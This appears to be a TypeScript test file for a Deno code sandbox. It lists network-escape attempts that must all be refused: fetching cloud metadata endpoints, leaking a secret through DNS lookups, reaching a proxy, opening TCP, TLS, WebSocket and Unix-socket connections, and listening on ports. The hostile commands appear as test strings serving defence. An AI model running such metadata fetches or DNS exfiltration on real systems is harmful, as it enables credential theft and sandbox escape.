import assert from 'node:assert/strict';

import type { Places } from '../arena/places.js';
import type { ProgramAttack } from '../arena/program-attack.js';
import { attemptProgram, eachRefused, outcomesOf } from './attempts.js';

/** The global `fetch` goes through the server, which grants no host; everything else is refused by Deno. */
const noNetwork =
  /Requires (?:net|sys|read|write|env) access|no network|is not defined|is not a function|is not a constructor|EPERM|EACCES|EventSource failed|os error|NetworkError|it did not settle/;

const viaNode = (module: string, connect: string) =>
  `new Promise((_, reject) => process.getBuiltinModule("${module}").${connect}.on("error", reject))`;

const connections = ({ port, socket, abstractSocket }: Places) => [
  `fetch("http://127.0.0.1:${port}/")`,
  `fetch("http://localhost:${port}/")`,
  `fetch("http://[::ffff:127.0.0.1]:${port}/")`,
  `new Promise((_, reject) => { new WebSocket("ws://127.0.0.1:${port}/").onerror = (event) => reject(event.error ?? new Error(event.message)) })`,
  `new WebSocketStream("ws://127.0.0.1:${port}/").opened`,
  `new Promise((_, reject) => { const source = new EventSource("http://127.0.0.1:${port}/"); source.onerror = () => { source.close(); reject(new Error("EventSource failed")) } })`,
  `new WebTransport("https://127.0.0.1:${port}/").ready`,
  `Deno.connect({ port: ${port} })`,
  `Deno.connect({ transport: "unix", path: "${socket}" })`,
  `Deno.connect({ transport: "unix", path: "\\0${abstractSocket}" })`,
  `Deno.connectTls({ hostname: "127.0.0.1", port: ${port} })`,
  `Deno.createHttpClient({ proxy: { url: "http://127.0.0.1:${port}" } })`,
  viaNode('net', `connect(${port}, "127.0.0.1")`),
  viaNode('net', `connect({ path: "${socket}" })`),
  viaNode('net', `connect({ path: "\\0${abstractSocket}" })`),
  viaNode('tls', `connect(${port}, "127.0.0.1")`),
  viaNode('http', `get("http://127.0.0.1:${port}/")`),
  viaNode('https', `get("https://127.0.0.1:${port}/")`),
  viaNode('http2', `connect("http://127.0.0.1:${port}/")`),
  `WebAssembly.compileStreaming(fetch("http://127.0.0.1:${port}/x.wasm"))`,
];

/** Attacks that try to reach the network. */
export const network: readonly ProgramAttack[] = [
  {
    id: 'TS-19',
    what: 'fetch the metadata services of clouds, by address and by name',
    stoppedBy: 'no network; Deno; OS',
    attack: eachRefused(
      () =>
        [
          'http://169.254.169.254/latest/meta-data/',
          'http://[fd00:ec2::254]/latest/meta-data/',
          'http://metadata.google.internal/',
          'http://100.100.100.200/',
        ].flatMap((url) => [`fetch("${url}")`, viaNode('http', `get("${url}")`)]),
      noNetwork,
    ),
  },
  {
    id: 'TS-21',
    what: 'leak a secret in a name that is looked up, through Deno and node:dns; find out the resolver',
    stoppedBy: 'Deno; OS',
    async attack({ run }) {
      const report = await run(
        attemptProgram([
          'Deno.resolveDns("secret.example", "A")',
          'Deno.resolveDns("secret.example", "TXT", { nameServer: { ipAddr: "127.0.0.1", port: 53 } })',
          '(await node("dns")).promises.lookup("secret.example")',
          '(await node("dns")).promises.resolve("secret.example")',
          '(await node("dns")).promises.lookupService("127.0.0.1", 22)',
          'new ((await node("dns")).promises.Resolver)().resolve4("secret.example")',
        ]),
      );
      assert.deepEqual(
        outcomesOf(report).filter(({ got }) => got !== undefined),
        [],
      );
      // An uncaught error does not name the resolver either.
      const { error } = await run('await Deno.resolveDns("secret.example", "A")');
      assert.doesNotMatch(error ?? '', /\d+\.\d+\.\d+\.\d+/);
    },
  },
  {
    id: 'TS-23',
    what: "reach the proxy that the server's environment names",
    stoppedBy: 'an empty environment; no network',
    attack: eachRefused(
      () => [
        'fetch("http://example.com/")',
        'fetch("https://example.com/")',
        viaNode('http', 'get("http://example.com/")'),
      ],
      noNetwork,
    ),
  },
  {
    id: 'NET-01',
    what: 'connect in every possible way: fetch, WebSocket, EventSource, TCP, TLS, QUIC, HTTP/2, Unix and abstract sockets',
    stoppedBy: 'Deno; OS',
    attack: eachRefused(connections, noNetwork),
  },
  {
    id: 'NET-02',
    what: 'listen: Deno.listen, Deno.serve, UDP, Unix sockets, an open descriptor',
    stoppedBy: 'Deno; OS',
    attack: eachRefused(
      ({ home }) => [
        'Deno.listen({ port: 0 })',
        'Deno.listen({ port: 0, hostname: "127.0.0.1" })',
        `Deno.listen({ transport: "unix", path: "${home}/made" })`,
        'Deno.listenDatagram({ port: 0, transport: "udp" })',
        'Deno.serve({ port: 0 }, () => new Response()).addr',
        `Deno.serve({ path: "${home}/made" }, () => new Response()).addr`,
        'new Promise((_, reject) => process.getBuiltinModule("net").createServer().listen({ fd: 5 }).on("error", reject))',
      ],
      /Requires (?:net|read|write) access|is not a function|EINVAL|EPERM|requires the/,
    ),
  },
  {
    id: 'NET-03',
    what: 'send a datagram or open an HTTP server through node modules that fail late',
    stoppedBy: 'Deno; OS',
    async attack({ run, places: { port } }) {
      for (const program of [
        `const socket = process.getBuiltinModule("dgram").createSocket("udp4"); socket.send("x", ${port}, "127.0.0.1"); await new Promise((go) => setTimeout(go, 500));`,
        'process.getBuiltinModule("dgram").createSocket("udp4").bind(0); await new Promise((go) => setTimeout(go, 500));',
        'process.getBuiltinModule("http").createServer().listen(0); await new Promise((go) => setTimeout(go, 500));',
      ]) {
        const { success, error } = await run(program);
        assert.equal(success, false);
        assert.match(error ?? '', noNetwork);
      }
    },
  },
];
